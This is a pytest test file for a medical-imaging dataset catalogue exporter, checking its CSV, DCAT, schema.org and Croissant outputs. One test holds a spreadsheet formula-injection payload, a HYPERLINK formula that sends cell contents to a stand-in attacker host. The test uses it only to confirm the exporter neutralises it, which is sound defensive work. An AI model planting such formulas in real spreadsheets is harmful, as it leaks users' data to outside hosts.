"""CSV, DCAT, schema.org and Croissant exports, each read back by an independent parser, offline."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from pathlib import Path

import pyoxigraph as ox
import pytest
import rdflib
from export_helpers import assert_validated_alike, oxigraph_jsonld, pyld_graph, rdflib_jsonld
from rdflib import RDF, Namespace, URIRef
from rdflib.compare import isomorphic

from medkg.export import (FORMATS, ExportError, croissant, dcat, export, jsonld, schemaorg,
                          sorted_runs)
from medkg.export.context import load_context, write_json
from medkg.export.jsonld import compact_document
from medkg.export.records import Concept, Count, DatasetRecord, SourceList, read_catalogue
from medkg.namespaces import Namespaces
from medkg.store import open_read_only

DCAT = Namespace("http://www.w3.org/ns/dcat#")
DCT = Namespace("http://purl.org/dc/terms/")
FOAF = Namespace("http://xmlns.com/foaf/0.1/")
SDO = Namespace("https://schema.org/")
BASE = "https://w3id.org/medkg/"
DATASETS = {"bach", "camelyon16", "panda", "tiny-nuclei"}


def test_unknown_format_names_the_known_ones(export_settings, out_dir: Path) -> None:
    with pytest.raises(ExportError) as caught:
        export(export_settings, "xlsx", out_dir / "x")
    for name in ("ttl", "croissant", "sssom", "dcat"):
        assert name in str(caught.value)
    assert set(FORMATS) >= {
        "ttl", "nt", "nq", "trig", "jsonld", "rdfxml",
        "csv", "croissant", "dcat", "schemaorg", "sssom",
    }  # fmt: skip


def test_missing_store_is_an_export_error(export_settings, out_dir: Path) -> None:
    from dataclasses import replace

    with pytest.raises(ExportError, match="medkg build"):
        export(replace(export_settings, store=out_dir / "nothing"), "ttl", out_dir / "x.ttl")


def test_csv_has_one_flat_row_per_dataset(export_settings, out_dir: Path) -> None:
    path = export(export_settings, "csv", out_dir / "datasets.csv", quiet=True)
    with path.open(encoding="utf-8", newline="") as handle:
        rows = {row["iri"].rsplit("/", 1)[-1]: row for row in csv.DictReader(handle)}
    assert set(rows) == DATASETS
    camelyon = rows["camelyon16"]
    assert camelyon["title"] == "CAMELYON16"
    assert camelyon["alt_names"] == "Camelyon 2016"
    assert camelyon["tasks"] == "classification | segmentation"
    assert camelyon["years"] == "2016 | 2017"
    assert camelyon["counts"] == "399 wsis (alpha) | 270 wsis (beta)"
    assert camelyon["sources"] == "alpha | beta"
    assert camelyon["challenges"] == "CAMELYON16"
    assert rows["tiny-nuclei"]["landing_pages"] == "" and rows["tiny-nuclei"]["years"] == ""


def _dcat(export_settings, out_dir: Path) -> rdflib.Graph:
    graph = rdflib.Graph()
    path = export(export_settings, "dcat", out_dir / "catalogue.ttl", quiet=True)
    graph.parse(path, format="turtle")
    return graph


def test_dcat_turtle_holds_the_graph_sorted_with_the_prefixes_it_uses(
    export_settings, out_dir: Path
) -> None:
    store = open_read_only(export_settings.store)
    ns = Namespaces(export_settings.base)
    parts = list(dcat.dcat_parts(store, ns, read_catalogue(store, ns), quiet=True))
    dcat.write_turtle(parts, out_dir / "a.ttl")
    text = (out_dir / "a.ttl").read_text(encoding="utf-8")
    graph = dcat.dcat_graph(store, ns, read_catalogue(store, ns), quiet=True)
    assert isomorphic(rdflib.Graph().parse(data=text, format="turtle"), graph)
    declared = set(re.findall(r"^@prefix (\w+):", text, flags=re.M))
    assert {"dcat", "dct", "foaf", "skos"} <= declared
    assert not declared & {"brick", "sosa", "odrl"}  # rdflib's usual prefixes, none of them used
    subjects = [line.split(" ", 1)[0] for line in text.splitlines() if line.startswith("<")]
    assert subjects == sorted(subjects)  # one block per subject, in a fixed order
    dcat.write_turtle(parts, out_dir / "b.ttl")
    assert (out_dir / "b.ttl").read_bytes() == text.encode("utf-8")


def test_dcat_turtle_written_in_parts_is_the_same_as_from_the_whole_graph(
    export_settings, out_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = open_read_only(export_settings.store)
    ns = Namespaces(export_settings.base)
    catalogue = read_catalogue(store, ns)
    parts = list(dcat.dcat_parts(store, ns, catalogue, quiet=True, datasets_per_part=1))
    assert len(parts) == 1 + len(catalogue.datasets)
    whole = [triple for part in parts for triple in part]
    assert isomorphic(dcat.dcat_graph(store, ns, catalogue, quiet=True),
                      rdflib.Graph().parse(data="".join(f"{t} .\n" for t in whole), format="nt"))
    monkeypatch.setattr(sorted_runs, "OPEN_RUNS", 2)  # merge runs into one file as they come
    shared = [ox.Triple(ox.NamedNode("https://example.org/page"), ox.NamedNode(str(RDF.type)),
                        ox.NamedNode(str(FOAF.Document)))]
    dcat.write_turtle([parts[0], shared, *parts[1:], shared], out_dir / "parts.ttl")
    dcat.write_turtle([whole + shared], out_dir / "whole.ttl")
    written = (out_dir / "parts.ttl").read_bytes()
    assert written == (out_dir / "whole.ttl").read_bytes()  # a triple of two parts once
    assert written.count(b"<https://example.org/page>") == 1
    assert not [p for p in out_dir.iterdir() if p.name.startswith(".dcat-parts-")]
    runs = sorted_runs.SortedRuns(out_dir)
    for part in parts:
        runs.add(part)
        assert len(runs.files) <= 2  # never more files open at once than OPEN_RUNS
    assert len(list(runs.merged())) == len(set(whole))


def test_dcat_jsonld_in_batches_is_the_whole_catalogue_compacted(
    export_settings, out_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dcat, "DATASETS_PER_PART", 1)
    monkeypatch.setattr(jsonld, "SUBJECTS_PER_BATCH", 2)
    monkeypatch.setattr(jsonld, "NODES_PER_RUN", 3)
    monkeypatch.setattr(sorted_runs, "OPEN_RUNS", 2)
    path = export(export_settings, "dcat", out_dir / "catalogue.jsonld", quiet=True)
    store = open_read_only(export_settings.store)
    ns = Namespaces(export_settings.base)
    whole = dcat.dcat_graph(store, ns, read_catalogue(store, ns), quiet=True)
    expected = write_json(compact_document(whole, load_context(export_settings)),
                          out_dir / "whole.json")
    assert path.read_bytes() == expected.read_bytes()
    assert sorted(p.name for p in out_dir.iterdir()) == ["catalogue.jsonld", "whole.json"]


def test_dcat_has_the_dcat_ap_mandatory_fields(export_settings, out_dir: Path) -> None:
    graph = _dcat(export_settings, out_dir)
    catalogue = URIRef(f"{BASE}catalogue")
    assert (catalogue, RDF.type, DCAT.Catalog) in graph
    for prop in (DCT.title, DCT.description, DCT.publisher, DCT.license):
        assert graph.value(catalogue, prop) is not None, prop
    assert graph.value(graph.value(catalogue, DCT.publisher), FOAF.name) is not None
    schemes = set(graph.objects(catalogue, DCAT.themeTaxonomy))
    assert len(schemes) == 4 and all(graph.value(s, DCT.title) for s in schemes)
    datasets = set(graph.objects(catalogue, DCAT.dataset))
    assert {str(d).rsplit("/", 1)[-1] for d in datasets} == DATASETS
    for dataset in datasets:
        assert graph.value(dataset, DCT.title) and graph.value(dataset, DCT.description)
    records = set(graph.objects(catalogue, DCAT.record))
    assert {graph.value(r, FOAF.primaryTopic) for r in records} == datasets
    assert all(graph.value(r, DCT.modified) for r in records)


def test_dcat_landing_page_is_the_access_url_of_a_distribution(
    export_settings, out_dir: Path
) -> None:
    graph = _dcat(export_settings, out_dir)
    camelyon = URIRef(f"{BASE}dataset/camelyon16")
    (distribution,) = graph.objects(camelyon, DCAT.distribution)
    assert graph.value(distribution, DCAT.accessURL) == URIRef("https://camelyon16.grand-challenge.org/")
    assert graph.value(distribution, DCAT.downloadURL) is None
    assert list(graph.objects(URIRef(f"{BASE}dataset/tiny-nuclei"), DCAT.distribution)) == []
    # conflicting issued dates: the earliest is kept, with its own precision
    assert graph.value(camelyon, DCT.issued) == rdflib.Literal("2016", datatype=rdflib.XSD.gYear)
    assert URIRef(f"{BASE}anatomy/lymph-node") in set(graph.objects(camelyon, DCAT.theme))


def test_dcat_conforms_to_the_dcat_ap_3_rules_it_could_break(
    export_settings, out_dir: Path
) -> None:
    """Checked with DCAT-AP 3's rules on records, catalogues and the classes of what they point
    at (fixtures/dcat-ap-3-rules.ttl): the lists are named by prov:wasDerivedFrom, not dct:source
    (one catalogue record at most) nor as dcat:Catalogs (which would need a publisher)."""
    pyshacl = pytest.importorskip("pyshacl")
    graph = _dcat(export_settings, out_dir)
    shapes = rdflib.Graph().parse(Path(__file__).parent / "fixtures" / "dcat-ap-3-rules.ttl")
    conforms, _, text = pyshacl.validate(graph, shacl_graph=shapes, inference="none")
    assert conforms, text
    record = URIRef(f"{BASE}dataset/camelyon16/record")
    prov = Namespace("http://www.w3.org/ns/prov#")
    sources = {URIRef(f"{BASE}source/alpha"), URIRef(f"{BASE}source/beta")}
    assert set(graph.objects(record, prov.wasDerivedFrom)) == sources
    assert all(graph.value(s, DCT.title) for s in sources)


def test_dcat_jsonld_expands_to_the_same_graph_as_the_turtle(
    export_settings, out_dir: Path
) -> None:
    turtle = _dcat(export_settings, out_dir)
    path = export(export_settings, "dcat", out_dir / "catalogue.jsonld", quiet=True)
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["@context"] == load_context(export_settings)
    assert isomorphic(pyld_graph(document, export_settings), turtle)


def test_dcat_jsonld_reads_offline_as_the_turtle(
    export_settings, out_dir: Path, no_network: None
) -> None:
    """rdflib and pyoxigraph, with no network, read the same triples as from the Turtle."""
    turtle = _dcat(export_settings, out_dir)
    path = export(export_settings, "dcat", out_dir / "catalogue.jsonld", quiet=True)
    assert isomorphic(rdflib_jsonld(path), turtle)
    assert isomorphic(oxigraph_jsonld(path), turtle)


def test_medkg_validate_reads_the_dcat_jsonld_as_the_turtle(
    export_settings, out_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Read, not necessarily conforming: a DCAT catalogue is not shaped like medkg's graph."""
    jsonld = export(export_settings, "dcat", out_dir / "catalogue.jsonld", quiet=True)
    turtle = export(export_settings, "dcat", out_dir / "catalogue.ttl", quiet=True)
    assert_validated_alike(jsonld, turtle, monkeypatch)


def _folder(export_settings, out_dir: Path, fmt: str) -> dict[str, dict]:
    folder = export(export_settings, fmt, out_dir / fmt, quiet=True)
    return {p.stem: json.loads(p.read_text(encoding="utf-8")) for p in sorted(folder.iterdir())}


def test_schemaorg_one_dataset_per_file_as_google_reads_it(export_settings, out_dir: Path) -> None:
    documents = _folder(export_settings, out_dir, "schemaorg")
    assert set(documents) == DATASETS
    for slug, document in documents.items():
        graph = pyld_graph(document, export_settings)
        node = URIRef(f"{BASE}dataset/{slug}")
        assert (node, RDF.type, SDO.Dataset) in graph
        assert 50 <= len(str(graph.value(node, SDO.description))) <= 5000
        for unknown in (SDO.creator, SDO.license, SDO.isAccessibleForFree, SDO.temporalCoverage):
            assert graph.value(node, unknown) is None, (slug, unknown)
        # rdflib reads the inline context to the same triples as pyld
        assert isomorphic(rdflib.Graph().parse(data=json.dumps(document), format="json-ld"), graph)
    camelyon = documents["camelyon16"]
    assert camelyon["datePublished"] == "2016"
    assert "2017-01 (beta)" in camelyon["description"]
    assert camelyon["url"] == "https://camelyon16.grand-challenge.org/"
    assert camelyon["about"][0]["sameAs"] == ["http://purl.obolibrary.org/obo/UBERON_0000029"]
    assert camelyon["measurementTechnique"][0]["termCode"] == "SM"
    assert "creator" not in camelyon and "license" not in camelyon


XSD_ANY_URI = rdflib.XSD.anyURI
SECOND_PAGE = "https://camelyon17.grand-challenge.org/"


def _with_second_page(export_settings, fmt: str, folder: Path) -> Path:
    """The schema.org or Croissant files of the fixture, CAMELYON16 given a second landing page
    (which becomes the dataset's sameAs: no fixture dataset has two)."""
    catalogue = read_catalogue(open_read_only(export_settings.store), Namespaces(BASE))
    camelyon = next(r for r in catalogue.datasets if r.slug == "camelyon16")
    camelyon.landing_pages.append(SECOND_PAGE)
    write = {"schemaorg": schemaorg.write_schemaorg, "croissant": croissant.write_croissant}[fmt]
    return write(catalogue, load_context(export_settings), folder, True)


def _links(graph: rdflib.Graph, link: URIRef) -> dict[URIRef, set]:
    found: dict[URIRef, set] = {}
    for subject, value in graph.subject_objects(link):
        found.setdefault(subject, set()).add(value)
    return found


def test_schemaorg_url_sameas_and_identifier_are_iris(
    export_settings, out_dir: Path, no_network: None
) -> None:
    """Read by rdflib and by pyoxigraph as IRIs, not as strings."""
    folder = _with_second_page(export_settings, "schemaorg", out_dir / "schemaorg")
    for path in sorted(folder.iterdir()):
        for graph in (rdflib_jsonld(path), oxigraph_jsonld(path)):
            node = URIRef(f"{BASE}dataset/{path.stem}")
            assert _links(graph, SDO.identifier) == {node: {node}}
            assert graph.value(node, SDO.url) is not None
            for link in (SDO.url, SDO.sameAs):
                for value in graph.objects(None, link):
                    assert isinstance(value, URIRef), (path.name, link, value)
    camelyon = rdflib_jsonld(folder / "camelyon16.jsonld")
    assert _links(camelyon, SDO.sameAs) == {
        URIRef(f"{BASE}dataset/camelyon16"): {URIRef(SECOND_PAGE)},
        URIRef(f"{BASE}anatomy/lymph-node"): {URIRef("http://purl.obolibrary.org/obo/UBERON_0000029")},
        URIRef(f"{BASE}modality/whole-slide-imaging"): {URIRef("http://purl.obolibrary.org/obo/OBI_0002564")},
        URIRef(f"{BASE}stain/h-and-e"): {URIRef("http://purl.obolibrary.org/obo/OBI_0002124")},
    }  # fmt: skip
    page = URIRef("https://camelyon16.grand-challenge.org/")
    assert camelyon.value(URIRef(f"{BASE}dataset/camelyon16"), SDO.url) == page


def test_croissant_links_are_iris_or_typed_addresses(
    export_settings, out_dir: Path, no_network: None
) -> None:
    """The concepts' sameAs are IRIs; the dataset's url and sameAs, which mlcroissant reads as
    strings only, are xsd:anyURI literals, never language-tagged; no identifier points back at
    the dataset."""
    folder = _with_second_page(export_settings, "croissant", out_dir / "croissant")
    for path in sorted(folder.iterdir()):
        for graph in (rdflib_jsonld(path), oxigraph_jsonld(path)):
            node = URIRef(f"{BASE}dataset/{path.stem}")
            assert _links(graph, SDO.identifier) == {}
            for link in (SDO.url, SDO.sameAs):
                for subject, value in graph.subject_objects(link):
                    if subject == node:
                        assert isinstance(value, rdflib.Literal), (path.name, link, value)
                        assert (value.datatype, value.language) == (XSD_ANY_URI, None), value
                    else:
                        assert isinstance(value, URIRef), (path.name, link, value)
            assert graph.value(node, SDO.url) is not None
    camelyon = rdflib_jsonld(folder / "camelyon16.json")
    node = URIRef(f"{BASE}dataset/camelyon16")
    second = rdflib.Literal(SECOND_PAGE, datatype=XSD_ANY_URI)
    assert set(camelyon.objects(node, SDO.sameAs)) == {second}
    uberon = URIRef("http://purl.obolibrary.org/obo/UBERON_0000029")
    assert (URIRef(f"{BASE}anatomy/lymph-node"), SDO.sameAs, uberon) in camelyon


def _croissant_missing(document: dict) -> list[str]:
    required = ("name", "description", "url", "license", "creator", "datePublished", "distribution")
    return [name for name in required if name not in document]


def test_croissant_files_name_what_the_lists_do_not_give(export_settings, out_dir: Path) -> None:
    documents = _folder(export_settings, out_dir, "croissant")
    assert set(documents) == DATASETS
    for document in documents.values():
        assert isinstance(document["@context"], dict)
        assert document["conformsTo"] == "http://mlcommons.org/croissant/1.0"
        assert document["missingProperty"] == _croissant_missing(document)
        assert "distribution" in document["missingProperty"]
        assert "distribution" in document["description"]
    assert "datePublished" in documents["tiny-nuclei"]["missingProperty"]
    assert "datePublished" not in documents["panda"]["missingProperty"]


@pytest.mark.skipif(shutil.which("mlcroissant") is None, reason="mlcroissant not installed")
def test_croissant_files_pass_mlcroissant_validate(export_settings, out_dir: Path) -> None:
    folder = export(export_settings, "croissant", out_dir / "croissant", quiet=True)
    # and a dataset with a sameAs, which no fixture dataset has
    extra = _with_second_page(export_settings, "croissant", out_dir / "extra") / "camelyon16.json"
    for path in [*sorted(folder.iterdir()), extra]:
        result = subprocess.run(
            ["mlcroissant", "validate", "--jsonld", str(path)],
            capture_output=True, text=True, check=False, timeout=300,
        )  # fmt: skip
        assert result.returncode == 0, (path.name, result.stderr[-2000:])
        assert "error(s)" not in result.stderr


def test_a_short_list_description_is_followed_by_the_dataset_facts() -> None:
    """A list that describes a dataset as "Brain." gave a 46-character schema.org description,
    under the 50 that Google's dataset guidelines ask for."""
    brain = Concept(f"{BASE}anatomy/brain", "brain")
    mri = Concept(f"{BASE}modality/mri", "magnetic resonance imaging")
    record = DatasetRecord(
        f"{BASE}dataset/adni", "ADNI", descriptions=["Brain"], organs=[brain], modalities=[mri],
        sources=[SourceList(f"{BASE}source/a", "a", "Lists")],
    )  # fmt: skip
    text = schemaorg.describe(record)
    assert 50 <= len(text) <= 5000
    assert text.startswith("Brain. ADNI: a medical imaging dataset (")
    assert "magnetic resonance imaging; brain" in text and text.endswith("Listed in: Lists.")


def test_csv_keeps_hostile_text_and_never_a_formula(out_dir: Path) -> None:
    """Quotes, commas and line breaks round-trip (RFC 4180); a cell a spreadsheet would run as a
    formula (a list's title "=HYPERLINK(...)") starts with an apostrophe instead."""
    from medkg.export.table import write_csv

    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    record = DatasetRecord(
        f"{BASE}dataset/x", title, alt_names=[title, '@SUM(1+1)', 'a "quoted",\nname'],
        counts=[Count("-1", "cases", "-1 cases", "alpha")],
    )  # fmt: skip
    path = write_csv([record], out_dir / "hostile.csv", quiet=True)
    assert path.read_bytes().count(b"\r\n") == 2  # header and the row; the inner \n is quoted
    with path.open(encoding="utf-8", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["title"] == "'" + title
    assert row["alt_names"] == "'@SUM(1+1) | a \"quoted\",\nname"
    assert row["counts"] == "'-1 cases (alpha)"
    assert row["iri"] == f"{BASE}dataset/x"


def test_a_count_of_one_split_is_shown_as_that_part(mini_settings, write_list,  # type: ignore[no-untyped-def]
                                                    out_dir: Path) -> None:
    """"Train: 27 images" is 27 training images, not the size of the dataset: the CSV and the
    schema.org description say the split."""
    from medkg.build import build
    from medkg.export.table import write_csv

    folder = write_list("sizes", "# Sizes\n\n| Dataset | Size |\n|---|---|\n"
                                 "| Nuclei Split | Train: 27 images, 24.319 nuclei |\n")
    build(mini_settings, extra=[folder], run_validation=False)
    catalogue = read_catalogue(open_read_only(mini_settings.store), Namespaces(mini_settings.base))
    (record,) = [r for r in catalogue.datasets if r.title == "Nuclei Split"]
    with write_csv([record], out_dir / "sizes.csv", quiet=True).open(encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    assert row["counts"] == "27 images, train split (sizes) | 24319 nuclei (sizes)"
    text = schemaorg.describe(record)
    assert "Size: 27 images (train split, according to sizes); 24.319 nuclei (according to " \
           "sizes)." in text
